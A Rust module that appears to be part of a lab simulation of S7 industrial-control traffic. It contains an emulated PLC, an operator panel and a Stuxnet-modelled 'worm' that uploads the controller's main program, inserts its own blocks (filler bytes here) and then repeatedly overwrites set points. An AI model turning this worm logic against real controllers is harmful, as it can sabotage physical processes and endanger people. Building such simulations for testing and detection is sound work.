//! S7 communication over ISO on TCP (RFC 1006, ISO 8073 class 0): a controller, an operator panel, and a worm.

use std::collections::BTreeMap;
use std::io::{self, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::mpsc::channel;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use super::steady::Steady;
use super::{Stop, connect, ready, serve, tell};
use crate::run::{Done, Failure};

/// A controller answers at the end of its cycle, which takes so long.
const CYCLE: Duration = Duration::from_millis(10);
/// Bytes of a block that go with one message.
const PART: usize = 200;
/// The worm writes its set points so often.
const WRITE_EVERY: Duration = Duration::from_millis(100);

const JOB: u8 = 1;
const ACK_DATA: u8 = 3;
const USER_DATA: u8 = 7;

const SETUP: u8 = 0xf0;
const READ: u8 = 4;
const WRITE: u8 = 5;
const REQUEST_DOWNLOAD: u8 = 0x1a;
const DOWNLOAD_BLOCK: u8 = 0x1b;
const DOWNLOAD_ENDED: u8 = 0x1c;
const START_UPLOAD: u8 = 0x1d;
const UPLOAD: u8 = 0x1e;
const END_UPLOAD: u8 = 0x1f;
const SERVICE: u8 = 0x28;

/// The main program (OB1), as files are named: `_0800001P`.
const MAIN: &str = "0800001";
/// The blocks that the worm puts in, as Stuxnet did: its own first, then those that the controller calls in every cycle.
const BLOCKS: [(&str, usize); 5] =
    [("0C01865", 1_204), ("0C01874", 2_096), ("0A00890", 380), ("0800035", 452), (MAIN, 790)];

fn odd(what: &str) -> io::Error {
    io::Error::new(io::ErrorKind::InvalidData, what.to_owned())
}

/// A message: its kind, number, parameters and data.
#[derive(Debug, PartialEq, Eq)]
struct Message {
    kind: u8,
    number: u16,
    parameter: Vec<u8>,
    data: Vec<u8>,
}

impl Message {
    fn new(kind: u8, number: u16, parameter: &[u8], data: &[u8]) -> Self {
        Self { kind, number, parameter: parameter.to_vec(), data: data.to_vec() }
    }

    fn bytes(&self) -> Vec<u8> {
        let mut bytes = vec![2, 0xf0, 0x80, 0x32, self.kind, 0, 0];
        bytes.extend(self.number.to_be_bytes());
        bytes.extend((self.parameter.len() as u16).to_be_bytes());
        bytes.extend((self.data.len() as u16).to_be_bytes());
        if self.kind == ACK_DATA {
            bytes.extend([0, 0]);
        }
        bytes.extend(&self.parameter);
        bytes.extend(&self.data);
        bytes
    }

    fn parse(bytes: &[u8]) -> Option<Self> {
        let head = bytes.strip_prefix(&[2, 0xf0, 0x80, 0x32])?;
        let kind = *head.first()?;
        let word = |at: usize| Some(u16::from_be_bytes([*head.get(at)?, *head.get(at + 1)?]));
        let body = head.get(if matches!(kind, 2 | ACK_DATA) { 11 } else { 9 }..)?;
        let (parameter, data) = body.split_at_checked(word(5)?.into())?;
        Some(Self::new(kind, word(3)?, parameter, data.get(..word(7)?.into())?))
    }
}

/// A transport packet (RFC 1006 section 6).
fn send(stream: &mut TcpStream, content: &[u8]) -> io::Result<()> {
    let [high, low] = (content.len() as u16 + 4).to_be_bytes();
    stream.write_all(&[&[3, 0, high, low], content].concat())
}

fn receive(stream: &mut TcpStream) -> io::Result<Vec<u8>> {
    let mut head = [0; 4];
    stream.read_exact(&mut head)?;
    let length = usize::from(u16::from_be_bytes([head[2], head[3]])).checked_sub(4);
    let mut content = vec![0; length.filter(|_| head[0] == 3).ok_or_else(|| odd("no transport packet"))?];
    stream.read_exact(&mut content)?;
    Ok(content)
}

fn message(stream: &mut TcpStream) -> io::Result<Message> {
    Message::parse(&receive(stream)?).ok_or_else(|| odd("no S7 message"))
}

/// A text with its length before it.
fn short(text: &[u8]) -> Vec<u8> {
    [&[text.len() as u8], text].concat()
}

/// A function that names a block's file.
fn with_file(function: u8, block: &str) -> Vec<u8> {
    [&[function, 0, 0, 0, 0, 0, 0, 0][..], &short(format!("_{block}P").as_bytes())].concat()
}

/// The block whose file a function names.
fn file(parameter: &[u8]) -> String {
    String::from_utf8_lossy(parameter.get(10..17).unwrap_or_default()).into_owned()
}

/// A controller's memory.
#[derive(Default)]
struct Memory {
    blocks: BTreeMap<String, Vec<u8>>,
    /// What was loaded but not put into the program yet.
    loaded: BTreeMap<String, Vec<u8>>,
    cycles: u16,
}

/// A controller, whose program anybody may change, as those of its time let everybody.
pub(super) fn plc(at: SocketAddr, stop: &Stop) -> Done {
    let mut memory = Memory::default();
    memory.blocks.insert(MAIN.into(), vec![0x70; 704]);
    memory.blocks.insert("0800035".into(), vec![0x70; 312]);
    let memory = Arc::new(Mutex::new(memory));
    serve(at, stop, move |mut stream| {
        let (_keep, cycle) = channel::<()>();
        let request = receive(&mut stream)?;
        if request.get(1) != Some(&0xe0) {
            return Err(odd("no connection request"));
        }
        // The confirmation bears the caller's reference and his points of access (ISO 8073 clause 13.4).
        let source = request.get(4..6).unwrap_or(&[0, 0]);
        let rest = request.get(6..).unwrap_or_default();
        send(&mut stream, &[&[request[0], 0xd0], source, &[0, 0x44], rest].concat())?;
        loop {
            let asked = message(&mut stream)?;
            let _ = cycle.recv_timeout(CYCLE);
            answer(&mut stream, &asked, &memory)?;
        }
    })
}

fn answer(stream: &mut TcpStream, asked: &Message, memory: &Mutex<Memory>) -> io::Result<()> {
    let function = asked.parameter.first().copied().unwrap_or_default();
    let reply = |parameter: &[u8], data: &[u8]| Message::new(ACK_DATA, asked.number, parameter, data).bytes();
    let bytes = match (asked.kind, function) {
        (JOB, SETUP) => reply(&[SETUP, 0, 0, 1, 0, 1, 0, 240], &[]),
        (JOB, READ) => {
            let mut memory = memory.lock().unwrap_or_else(PoisonError::into_inner);
            memory.cycles = memory.cycles.wrapping_add(1);
            reply(&[READ, 1], &[&[0xff, 4, 0, 16][..], &memory.cycles.to_be_bytes()].concat())
        }
        (JOB, WRITE) => {
            tell(format_args!("written by {}", stream.peer_addr()?.ip()));
            reply(&[WRITE, 1], &[0xff])
        }
        (JOB, START_UPLOAD) => {
            let length = held(memory, &file(&asked.parameter)).len();
            let begun = [&[START_UPLOAD, 0, 1, 0, 0, 0, 0, 7][..], &short(format!("{length:07}").as_bytes())];
            reply(&begun.concat(), &[])
        }
        (JOB, UPLOAD) => {
            let block = held(memory, MAIN);
            let part = block.get(..PART).unwrap_or(&block);
            let length = (part.len() as u16).to_be_bytes();
            reply(&[UPLOAD, 0], &[&length[..], &[0, 0xfb], part].concat())
        }
        (JOB, END_UPLOAD) => reply(&[END_UPLOAD], &[]),
        (JOB, REQUEST_DOWNLOAD) => {
            send(stream, &reply(&[REQUEST_DOWNLOAD], &[]))?;
            let block = file(&asked.parameter);
            let bytes = fetch(stream, &block)?;
            memory.lock().unwrap_or_else(PoisonError::into_inner).loaded.insert(block, bytes);
            return Ok(());
        }
        (JOB, SERVICE) => {
            let mut memory = memory.lock().unwrap_or_else(PoisonError::into_inner);
            for (block, bytes) in std::mem::take(&mut memory.loaded) {
                tell(format_args!("inserted {block} by {}", stream.peer_addr()?.ip()));
                memory.blocks.insert(block, bytes);
            }
            reply(&[SERVICE], &[])
        }
        (USER_DATA, _) => {
            let list = [&[0xff, 9, 0, 12, 0, 0x11, 0, 0, 0, 4, 0, 1][..], &[0, 1, 0, 0]].concat();
            let told = [0, 1, 0x12, 8, 0x12, 0x84, 1, 1, 0, 0, 0, 0];
            Message::new(USER_DATA, asked.number, &told, &list).bytes()
        }
        _ => return Err(odd("a function that this controller does not have")),
    };
    send(stream, &bytes)
}

fn held(memory: &Mutex<Memory>, block: &str) -> Vec<u8> {
    memory.lock().unwrap_or_else(PoisonError::into_inner).blocks.get(block).cloned().unwrap_or_default()
}

/// In a download the controller asks for part after part.
fn fetch(stream: &mut TcpStream, block: &str) -> io::Result<Vec<u8>> {
    let mut bytes = Vec::new();
    let (_keep, cycle) = channel::<()>();
    for number in 0x0100.. {
        let _ = cycle.recv_timeout(CYCLE);
        send(stream, &Message::new(JOB, number, &with_file(DOWNLOAD_BLOCK, block), &[]).bytes())?;
        let part = message(stream)?;
        bytes.extend(part.data.get(4..).unwrap_or_default());
        if part.parameter.get(1) != Some(&1) {
            break;
        }
    }
    send(stream, &Message::new(JOB, 0x01ff, &with_file(DOWNLOAD_ENDED, block), &[]).bytes())?;
    message(stream)?;
    Ok(bytes)
}

/// Somebody's connection to a controller.
struct Link {
    stream: TcpStream,
    number: u16,
}

impl Link {
    /// Connects: 1 is a programming device, 2 an operator panel.
    fn open(at: SocketAddr, kind: u8) -> io::Result<Self> {
        let mut stream = connect(at)?;
        let points = [0xc1, 2, 1, 0, 0xc2, 2, kind, 2, 0xc0, 1, 10];
        send(&mut stream, &[&[0x11, 0xe0, 0, 0, 0, 5, 0][..], &points].concat())?;
        receive(&mut stream)?;
        let mut link = Self { stream, number: 0 };
        link.ask(JOB, &[SETUP, 0, 0, 1, 0, 1, 1, 0xe0], &[])?;
        Ok(link)
    }

    fn ask(&mut self, kind: u8, parameter: &[u8], data: &[u8]) -> io::Result<Message> {
        self.number = self.number.wrapping_add(1);
        send(&mut self.stream, &Message::new(kind, self.number, parameter, data).bytes())?;
        let answer = message(&mut self.stream)?;
        if answer.number == self.number { Ok(answer) } else { Err(odd("an answer to something else")) }
    }

    /// Asks which module it is (system status list 0x0011).
    fn identify(&mut self) -> io::Result<Message> {
        let list = [0xff, 9, 0, 4, 0, 0x11, 0, 0];
        self.ask(USER_DATA, &[0, 1, 0x12, 4, 0x11, 0x44, 1, 0], &list)
    }

    /// Takes the main program's beginning.
    fn upload(&mut self) -> io::Result<()> {
        self.ask(JOB, &with_file(START_UPLOAD, MAIN), &[])?;
        self.ask(JOB, &[UPLOAD, 0, 0, 0, 0, 0, 0, 7], &[])?;
        self.ask(JOB, &[END_UPLOAD, 0, 0, 0, 0, 0, 0, 7], &[])?;
        Ok(())
    }

    /// Puts a block into the controller's program.
    fn download(&mut self, block: &str, bytes: &[u8]) -> io::Result<()> {
        let sizes = format!("1{:06}{:06}", bytes.len(), bytes.len().saturating_sub(36));
        self.ask(JOB, &[with_file(REQUEST_DOWNLOAD, block), short(sizes.as_bytes())].concat(), &[])?;
        let mut parts = bytes.chunks(PART).peekable();
        loop {
            let asked = message(&mut self.stream)?;
            let answer = match asked.parameter.first() {
                Some(&DOWNLOAD_BLOCK) => {
                    let part = parts.next().unwrap_or_default();
                    let more = u8::from(parts.peek().is_some());
                    let length = (part.len() as u16).to_be_bytes();
                    let data = [&length[..], &[0, 0xfb], part].concat();
                    Message::new(ACK_DATA, asked.number, &[DOWNLOAD_BLOCK, more], &data)
                }
                _ => Message::new(ACK_DATA, asked.number, &[DOWNLOAD_ENDED], &[]),
            };
            send(&mut self.stream, &answer.bytes())?;
            if answer.parameter == [DOWNLOAD_ENDED] {
                break;
            }
        }
        let list = [&[1, 0][..], block.as_bytes(), b"P"].concat();
        let [high, low] = (list.len() as u16).to_be_bytes();
        let insert = [&[SERVICE, 0, 0, 0, 0, 0, 0, 0xfd, high, low][..], &list, &short(b"_INSE")];
        self.ask(JOB, &insert.concat(), &[]).map(drop)
    }

    fn write(&mut self, value: u16) -> io::Result<Message> {
        let place = [WRITE, 1, 0x12, 0x0a, 0x10, 2, 0, 2, 0, 12, 0x84, 0, 0, 32];
        self.ask(JOB, &place, &[&[0, 4, 0, 16][..], &value.to_be_bytes()].concat())
    }
}

/// An operator panel.
pub(super) struct Panel(Link, Option<u16>);

impl Panel {
    pub(super) fn open(at: SocketAddr) -> Result<Self, Failure> {
        Ok(Self(Link::open(at, 2)?, None))
    }
}

impl Steady for Panel {
    fn exchange(&mut self) -> io::Result<()> {
        let place = [READ, 1, 0x12, 0x0a, 0x10, 2, 0, 2, 0, 1, 0x84, 0, 0, 0];
        let answer = self.0.ask(JOB, &place, &[])?;
        let Some(&[high, low]) = answer.data.get(4..6) else { return Err(odd("no value")) };
        let value = u16::from_be_bytes([high, low]);
        // The controller counts how often it was read, by whomever.
        let newer = self.1.is_none_or(|before| (1..0x8000).contains(&value.wrapping_sub(before)));
        self.1 = Some(value);
        if newer { Ok(()) } else { Err(odd("an old value")) }
    }
}

/// The worm on an engineering station: identifies the controller, takes its program, puts its own blocks in, and then drives
/// set points up and down. What fails it tries again.
pub(super) fn worm(at: SocketAddr, stop: &Stop) -> Done {
    ready();
    tell("first");
    let mut done = 0;
    while stop.pace(WRITE_EVERY) {
        if let Err(error) = attempt(at, stop, &mut done) {
            tell(format_args!("failed after {done} blocks: {error}"));
        }
    }
    Ok(())
}

fn attempt(at: SocketAddr, stop: &Stop, done: &mut usize) -> io::Result<()> {
    let mut link = Link::open(at, 1)?;
    link.identify()?;
    tell("identified");
    link.upload()?;
    tell("uploaded");
    for (block, size) in BLOCKS.iter().skip(*done) {
        link.download(block, &vec![0x90; *size])?;
        *done += 1;
        tell(format_args!("downloaded {block}"));
    }
    for speed in [14_100_u16, 20, 10_640].into_iter().cycle() {
        if !stop.pace(WRITE_EVERY) {
            break;
        }
        link.write(speed)?;
        tell("wrote");
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn messages_are_read_as_they_are_written() {
        for kind in [JOB, ACK_DATA, USER_DATA] {
            let message = Message::new(kind, 0x1234, &[SETUP, 0, 0, 1], &[1, 2, 3]);
            assert_eq!(Message::parse(&message.bytes()), Some(message));
        }
        assert_eq!(Message::parse(&[2, 0xf0, 0x80, 0x32, 1, 0, 0, 0, 1, 0, 9, 0, 0]), None);
    }

    #[test]
    fn a_download_names_its_file() {
        let named = with_file(REQUEST_DOWNLOAD, MAIN);
        assert_eq!(&named[8..], b"\x09_0800001P");
        assert_eq!(file(&named), MAIN);
    }
}
